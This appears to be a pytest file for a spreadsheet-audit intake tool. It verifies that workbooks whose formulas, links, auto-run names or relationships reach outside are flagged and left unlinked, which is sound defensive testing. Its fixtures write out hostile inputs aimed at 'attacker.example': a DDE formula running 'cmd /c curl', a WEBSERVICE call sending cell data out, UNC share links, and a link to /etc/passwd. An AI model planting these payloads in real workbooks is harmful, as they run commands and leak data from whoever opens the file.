"""What in a return reaches outside it is told, linked from no workbook, and goes back to nobody."""

import io
import re
import zipfile

import openpyxl
import pytest
from openpyxl.workbook.defined_name import DefinedName

from tests.returns.test_ingest import codes, in_order, outcomes, take_in
from tests.returns.test_packed_in_other_ways import LINKS, linked
from tests.support.made_up.workspace import Council, edited
from tests.support.workbooks.workbook_parts import patched
from workbook_qa.ledger.states import AuditState
from workbook_qa.tracker import reconcile
from workbook_qa.workbooks.read.reaching_out import (
    automatic_name,
    reach_of_formula,
    reach_of_open_document,
)

ADDRESS = "attacker.example"
UNC = f"\\\\{ADDRESS}\\share\\x.xlsx"


def first(council: Council) -> AuditState:
    return council.audits()[0]


def with_formula(workbook: bytes, formula: str) -> bytes:
    """On a sheet of the auditor's own."""

    def change(book: openpyxl.Workbook) -> None:
        book.create_sheet("My notes")["B4"] = formula

    return edited(workbook, change)


def with_link(workbook: bytes, target: str) -> bytes:
    def change(book: openpyxl.Workbook) -> None:
        cell = book.create_sheet("My notes")["B4"]
        cell.value, cell.hyperlink = "see here", target

    return edited(workbook, change)


def with_name(workbook: bytes, name: str, refers_to: str = "'My notes'!$B$4") -> bytes:
    def change(book: openpyxl.Workbook) -> None:
        book.create_sheet("My notes")
        book.defined_names[name] = DefinedName(name, attr_text=refers_to)

    return edited(workbook, change)


def with_part(workbook: bytes, kind: str) -> bytes:
    link = f'<Relationship Id="rId91" Type="{kind}" Target="more.xml"/>'
    workbook = patched(
        workbook,
        "xl/_rels/workbook.xml.rels",
        lambda text: text.replace("</Relationships>", f"{link}</Relationships>"),
    )
    return patched(workbook, "xl/more.xml", lambda _: f"<x>{ADDRESS}</x>")


def with_picture_elsewhere(workbook: bytes) -> bytes:
    target = f'Target="http://{ADDRESS}/x.png" TargetMode="External"'
    link = f'<Relationship Id="rId1" Type="{LINKS}/image" {target}/>'
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    rels = f'<Relationships xmlns="{space}">{link}</Relationships>'
    return patched(workbook, "xl/drawings/_rels/drawing77.xml.rels", lambda _: rels)


ACTIVE = {
    "WEBSERVICE": lambda book: with_formula(book, f'=_xlfn.WEBSERVICE("http://{ADDRESS}/"&A1)'),
    "HYPERLINK": lambda book: with_formula(book, f'=HYPERLINK("http://{ADDRESS}/","Open")'),
    "HYPERLINK by a cell": lambda book: with_formula(book, "=HYPERLINK(A1)"),
    "DDE": lambda book: with_formula(book, f"=cmd|'/c curl {ADDRESS}'!A1"),
    "IMPORTDATA": lambda book: with_formula(book, f'=IMPORTDATA("http://{ADDRESS}/")'),
    "kept by Google": lambda book: with_formula(
        book, f'=IFERROR(__xludf.DUMMYFUNCTION("IMPORTXML(""http://{ADDRESS}"")"),"")'
    ),
    "IMAGE": lambda book: with_formula(book, f'=_xlfn.IMAGE("http://{ADDRESS}/x.png")'),
    "RTD": lambda book: with_formula(book, f'=RTD("x.y","{ADDRESS}","z")'),
    "another file": lambda book: with_formula(book, f"='\\\\{ADDRESS}\\share\\[x.xlsx]S'!A1"),
    "INDIRECT": lambda book: with_formula(book, f"=INDIRECT(\"'\\\\{ADDRESS}\\s\\[x]S'!A1\")"),
    "link to file://": lambda book: with_link(book, f"file://{ADDRESS}/share/x.xlsx"),
    "link to a share": lambda book: with_link(book, UNC),
    "link to a program": lambda book: with_link(book, f"ms-word:ofe|u|http://{ADDRESS}/x"),
    "Auto_Open": lambda book: with_name(book, "Auto_Open"),
    "auto_close of a sheet": lambda book: with_name(book, "_xlnm.Auto_Close"),
    "a name": lambda book: with_name(book, "Rate", f'WEBSERVICE("http://{ADDRESS}/")'),
    "connections": lambda book: with_part(book, f"{LINKS}/connections"),
    "query table": lambda book: with_part(book, f"{LINKS}/queryTable"),
    "add-in": lambda book: with_part(
        book, "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"
    ),
    "picture kept elsewhere": with_picture_elsewhere,
}  # fmt: skip
IN_REACH = {"reaches-outside", "links-outside"}


def linked_anywhere(council: Council, name: str) -> bool:
    """Whether any workbook of ours leads to a file of that name, in a formula or a relationship."""
    for path, content in council.tree("outbox").items():
        if path.endswith(".xlsx"):
            with zipfile.ZipFile(io.BytesIO(content)) as archive:
                for part in archive.namelist():
                    if name.encode() in archive.read(part) and re.search(
                        rb'(HYPERLINK\("|Target=")[^"]*' + re.escape(name).encode(),
                        archive.read(part).replace(b"&quot;", b'"'),
                    ):
                        return True
    return False


def put_away_as(council: Council) -> str:
    return f"{first(council).audit.reference}.xlsx"


def test_a_return_without_any_of_it_is_linked(issued: Council):
    issued.drop("a.xlsx", issued.filled(first(issued)))
    assert codes(take_in(issued)) == set()
    reconcile.run(issued.on("2026-11-20"))
    assert linked_anywhere(issued, f"inbox/accepted/2026-11/{put_away_as(issued)}")


@pytest.mark.parametrize("kind", ACTIVE)
def test_what_reaches_outside_is_told_and_not_linked(issued: Council, kind: str):
    issued.drop("a.xlsx", ACTIVE[kind](issued.filled(first(issued))))
    result = take_in(issued)
    assert outcomes(result) == ["accepted"]
    assert "reaches-outside" in codes(result)
    (said,) = (each for each in result.problems if each.code == "reaches-outside")
    assert ADDRESS not in str(said)
    reconcile.run(issued.on("2026-11-20"))
    assert not linked_anywhere(issued, put_away_as(issued))
    row = openpyxl.load_workbook(issued.workspace.tracker)["Audits"]
    assert any("Not linked" in map(str, cells) for cells in row.iter_rows(values_only=True))


def test_a_link_to_another_workbook_is_not_linked_as_it_came_either(issued: Council):
    issued.drop("a.xlsx", linked(issued.filled(first(issued)), "<externalBook/>"))
    assert codes(take_in(issued)) == {"links-outside"}
    reconcile.run(issued.on("2026-11-20"))
    assert not linked_anywhere(issued, put_away_as(issued))


@pytest.mark.parametrize("kind", ACTIVE)
def test_version_2_holds_none_of_it(issued: Council, kind: str):
    gap = {"Q1.1.answer": None}
    issued.drop("a.xlsx", ACTIVE[kind](issued.filled(first(issued), gap)))
    result = take_in(issued)
    assert outcomes(result) == ["queried"]
    back = issued.workspace.query_workbook(
        first(issued).audit.month, first(issued).audit.reference, 2
    )
    with zipfile.ZipFile(back) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert not any(ADDRESS.encode() in part for part in parts.values())
    assert not any(b"auto_" in part.lower() for part in parts.values())
    assert not any(b'TargetMode="External"' in part for part in parts.values())
    asked = " ".join(path.read_text() for path in back.parent.glob("*version 2.eml"))
    assert "reaches outside" not in asked


def test_two_returns_to_decide_on_are_linked_only_where_nothing_reaches_out(issued: Council):
    plain = issued.filled(first(issued))
    other = issued.filled(first(issued), {"Q1.1.evidence": "Something else that was seen there."})
    active = ACTIVE["WEBSERVICE"](other)
    named = edited(active, lambda book: setattr(book.properties, "lastModifiedBy", "Somebody Else"))
    in_order(issued, ("a.xlsx", plain), ("b.xlsx", named))
    result = take_in(issued)
    assert outcomes(result)[-1] == "conflict"
    sheet = openpyxl.load_workbook(issued.workspace.ingest_report)["Decisions"]
    cells = [str(cell) for row in sheet.iter_rows(values_only=True) for cell in row]
    assert "Not linked" in cells
    assert sum("HYPERLINK" in cell for cell in cells) == 1


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:A9)",
        'IF(A1="call (me)","a|b","x")',
        'HYPERLINK("#\'Actions\'!A1","Go")',
        "Table1[[#Headers],[Case]]&Table1[Case]",
        "'a|b'!A1",
        "IMAGES(1)",
        "MYCALL(1)",
    ],
)
def test_what_stays_inside_is_none(formula: str):
    assert reach_of_formula(formula) == ""


def test_names_that_only_begin_alike_are_none():
    assert automatic_name("Auto_Opened_Sheet") == "Auto_Open"  # Excel runs what begins so
    assert automatic_name("Automatic") == automatic_name("Open") == ""


@pytest.mark.parametrize(
    ("content", "reaches"),
    [
        (b'table:formula="of:=WEBSERVICE(&quot;http://x&quot;)"', True),
        (b'table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"', True),
        (b"table:formula=\"of:=['file:///tmp/x.ods'#$Sheet1.A1]\"", True),
        (b'<table:dde-link><office:dde-source office:dde-application="cmd"/>', True),
        (b'<text:a xlink:href="file:///etc/passwd">', True),
        (b'<text:a xlink:href="//server/share/x">', True),
        (b'<script:event-listener script:event-name="dom:load"/>', True),
        (b'<draw:image xlink:href="http://x/y.png">', True),
        (b'<text:a xlink:href="https://mosaic.example/1">', False),
        (b'<draw:object xlink:href="./Object 1">', False),
        (b'table:formula="of:=SUM({1;2|3;4})"', False),
        (b'table:formula="of:=HYPERLINK(&quot;#Sheet1&quot;)"', False),
    ],
)
def test_an_open_document_is_looked_into_too(content: bytes, reaches: bool):
    assert bool(reach_of_open_document(content)) is reaches
